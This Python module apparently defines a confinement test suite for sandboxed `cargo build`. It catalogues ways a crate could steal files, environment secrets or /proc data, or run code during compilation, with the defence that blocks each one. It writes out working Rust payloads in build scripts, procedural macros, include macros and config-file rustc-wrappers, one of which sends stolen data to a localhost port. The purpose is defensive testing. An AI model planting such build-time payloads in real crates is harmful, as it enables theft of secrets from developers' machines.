"""Every attack that is known to work on a plain ``cargo build``; docs/explanation/build.md shows them as a table."""

from __future__ import annotations

from typing import TYPE_CHECKING

from .attack import CARGO_TOML, LIB, Attack, Scene

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping

    from akatsuki_wasm.confinement.ladder import Level

KERNEL: Mapping[Level, str] = {"strong": "Landlock", "full": "bubblewrap, Landlock"}
"""What keeps a confined compiler from a file."""
ENVIRONMENT: Mapping[Level, str] = dict.fromkeys(("basic", "strong", "full"), "a clean environment")
FOLDER: Mapping[Level, str] = dict.fromkeys(("basic", "strong", "full"), "cargo works from `/`")
REFUSED: Mapping[Level, str] = dict.fromkeys(("basic", "strong", "full"), "the build refuses such a file")
LOCKED: Mapping[Level, str] = dict.fromkeys(("basic", "strong", "full"), "unstable features stay locked")


def taken(expression: str, before: str = "") -> Callable[[Scene], Mapping[str, str]]:
    """An author's file that keeps what an expression reads in the module."""

    def files(scene: Scene) -> Mapping[str, str]:
        return {
            "src/author.rs": _filled(before, scene)
            + f"static TAKEN: &[u8] = {_filled(expression, scene)};\n"
            + "pub fn f(a: usize) -> i32 { i32::from(TAKEN[a % TAKEN.len()]) }\n"
        }

    return files


def told(text: str) -> Callable[[Scene], Mapping[str, str]]:
    """An author's file whose error messages show what was read."""
    return lambda scene: {"src/author.rs": f"{_filled(text, scene)}\npub fn f(a: usize) -> i32 {{ a as i32 }}\n"}


def _filled(text: str, scene: Scene) -> str:
    relative = "../" * 32 + str(scene.canary).lstrip("/")
    first, second = str(scene.canary)[:3], str(scene.canary)[3:]
    for name, value in {
        "CANARY": str(scene.canary),
        "RELATIVE": relative,
        "FIRST": first,
        "SECOND": second,
        "VICTIM": str(scene.victim),
        "MARK": str(scene.mark),
    }.items():
        text = text.replace(f"@{name}@", value)
    return text


def _with_unstable(features: str, author: str) -> Callable[[Scene], Mapping[str, str]]:
    def files(scene: Scene) -> Mapping[str, str]:
        return {"src/lib.rs": f"#![feature({features})]\n{LIB}", "src/author.rs": _filled(author, scene)}

    return files


def _path_dependency(scene: Scene) -> Mapping[str, str]:
    return {
        "../outside/Cargo.toml": '[package]\nname = "outside"\nversion = "0.0.0"\nedition = "2021"\n[workspace]\n',
        "../outside/src/lib.rs": f'pub static TAKEN: &[u8] = include_bytes!("{scene.canary}");\n',
        "Cargo.toml": f'{CARGO_TOML}[dependencies]\noutside = {{ path = "{scene.root}/plain/outside" }}\n',
        "Cargo.lock": (
            'version = 4\n\n[[package]]\nname = "guest"\nversion = "0.0.0"\ndependencies = ["outside"]\n\n'
            '[[package]]\nname = "outside"\nversion = "0.0.0"\n'
        ),
        "src/author.rs": "pub fn f(a: usize) -> i32 { i32::from(outside::TAKEN[a % outside::TAKEN.len()]) }\n",
    }


RUNNING = """\
use std::io::Write;
fn attack() -> String {
    let taken = std::fs::read_to_string("@CANARY@").unwrap_or_default();
    let _ = std::fs::write("@MARK@", &taken);
    if let Ok(mut server) = std::net::TcpStream::connect("127.0.0.1:@PORT@") {
        let _ = server.write_all(b"came ");
        let _ = server.write_all(taken.as_bytes());
    }
    let _ = std::process::Command::new("/usr/bin/touch").arg("@MARK@").status();
    taken
}
"""
"""What a program does that gets to run: it reads, writes, calls home and starts another program."""


def running(scene: Scene) -> str:
    """`RUNNING`, for a scene."""
    return _filled(RUNNING, scene).replace("@PORT@", str(scene.port))


def _build_script(scene: Scene) -> Mapping[str, str]:
    return {
        "build.rs": f"{running(scene)}fn main() {{ attack(); }}\n",
        "src/author.rs": "pub fn f(a: usize) -> i32 { a as i32 }\n",
    }


def _procedural_macro(scene: Scene) -> Mapping[str, str]:
    return {
        "evil/Cargo.toml": (
            '[package]\nname = "evil"\nversion = "0.0.0"\nedition = "2021"\n[lib]\nproc-macro = true\n'
        ),
        "evil/src/lib.rs": (
            "extern crate proc_macro;\n"
            f"{running(scene)}"
            "#[proc_macro]\npub fn evil(_: proc_macro::TokenStream) -> proc_macro::TokenStream {\n"
            '    format!("static TAKEN: &[u8] = b{:?};", attack() + "!").parse().unwrap()\n}\n'
        ),
        "Cargo.toml": f'{CARGO_TOML}[dependencies]\nevil = {{ path = "evil" }}\n',
        "Cargo.lock": (
            'version = 4\n\n[[package]]\nname = "evil"\nversion = "0.0.0"\n\n'
            '[[package]]\nname = "guest"\nversion = "0.0.0"\ndependencies = ["evil"]\n'
        ),
        "src/author.rs": "evil::evil!();\npub fn f(a: usize) -> i32 { i32::from(TAKEN[a % TAKEN.len()]) }\n",
    }


def _configuration(place: str) -> Callable[[Scene], Mapping[str, str]]:
    def files(scene: Scene) -> Mapping[str, str]:
        wrapper = scene.root / "wrapper"
        wrapper.write_text(f'#!/bin/sh\n: > "{scene.mark}"\nexec "$@"\n')
        wrapper.chmod(0o755)
        return {
            f"{place}.cargo/config.toml": f'[build]\nrustc-wrapper = "{wrapper}"\n',
            "src/author.rs": "pub fn f(a: usize) -> i32 { a as i32 }\n",
        }

    return files


ATTACKS = (
    Attack("`include_bytes!` of an absolute path", taken('include_bytes!("@CANARY@")'), "module", KERNEL, "lint"),
    Attack(
        "`include_str!` of an absolute path", taken('include_str!("@CANARY@").as_bytes()'), "module", KERNEL, "lint"
    ),
    Attack("`include_bytes!` of a relative path", taken('include_bytes!("@RELATIVE@")'), "module", KERNEL, "lint"),
    Attack(
        "`include_str!` by another name",
        taken('harmless!("@CANARY@").as_bytes()', "use std::include_str as harmless;\n"),
        "module", KERNEL, "lint",
    ),
    Attack(
        "`include_bytes!` inside the author's own macro",
        taken("own!()", 'macro_rules! own { () => { include_bytes!(concat!("@FIRST@", "@SECOND@")) } }\n'),
        "module", KERNEL, "lint",
    ),
    Attack(
        "`include_bytes!` put together by macros",
        taken("own!(include_bytes)", 'macro_rules! own { ($name:ident) => { $name!("@CANARY@") } }\n'),
        "module", KERNEL, "lint",
    ),
    Attack("`include!`, whose error shows the file", told('include!("@CANARY@");'), "messages", KERNEL, "lint"),
    Attack("`#[path]`, whose error shows the file", told('#[path = "@CANARY@"]\nmod x;'), "messages", KERNEL, "lint"),
    Attack(
        "`#[path]` inside a macro",
        told('macro_rules! own { () => { #[path = "@CANARY@"] mod x; } }\nown!();'),
        "messages", KERNEL, "lint",
    ),
    Attack("`env!`", taken('env!("SECRET").as_bytes()'), "module", ENVIRONMENT, "lint"),
    Attack(
        "`option_env!`",
        taken('match option_env!("SECRET") { Some(s) => s.as_bytes(), None => b"-" }'),
        "module", ENVIRONMENT, "lint",
    ),
    Attack(
        "`/proc/self/environ`", taken('include_bytes!("/proc/self/environ")'), "module",
        {"basic": "a clean environment", "strong": "a clean environment, Landlock", "full": "there is no `/proc`"},
        "lint",
    ),
    Attack(
        "`/proc/…/environ` of another program", taken('include_bytes!("/proc/@VICTIM@/environ")'), "module",
        {"strong": "Landlock", "full": "there is no `/proc`"}, "lint",
    ),
    Attack("a path dependency", _path_dependency, "module", KERNEL, "one file"),
    Attack("a build script", _build_script, "machine", REFUSED, "one file"),
    Attack("a procedural macro", _procedural_macro, "machine", dict.fromkeys(KERNEL, "no linker may run"), "one file"),
    Attack("`.cargo/config.toml` in the crate", _configuration(""), "machine", REFUSED, "one file"),
    Attack("`.cargo/config.toml` in a parent folder", _configuration("../"), "machine", FOLDER),
    Attack(
        "`global_asm!` with `.incbin`",
        _with_unstable(
            "asm_experimental_arch",
            "core::arch::global_asm!(\n"
            '    ".section .data.taken,\\"\\",@", ".globl taken", "taken:",\n'
            '    ".incbin \\"@CANARY@\\"", ".size taken, 40",\n);\n'
            'extern "C" { static taken: u8; }\n'
            "pub fn f(a: usize) -> i32 { unsafe { i32::from(*(&raw const taken).add(a)) } }\n",
        ),
        "module", LOCKED, "lint", {"RUSTC_BOOTSTRAP": "1"},
    ),
    Attack(
        "arguments for the linker, which write a file",
        _with_unstable(
            "link_arg_attribute",
            '#[link(kind = "link-arg", name = "-Map=@MARK@")]\nextern "C" {}\n'
            "pub fn f(a: usize) -> i32 { a as i32 }\n",
        ),
        "machine", LOCKED, "lint", {"RUSTC_BOOTSTRAP": "1"},
    ),
)  # fmt: skip
"""The attacks that steal or write; the ones that only cost time, memory or disk are in `bombs`."""
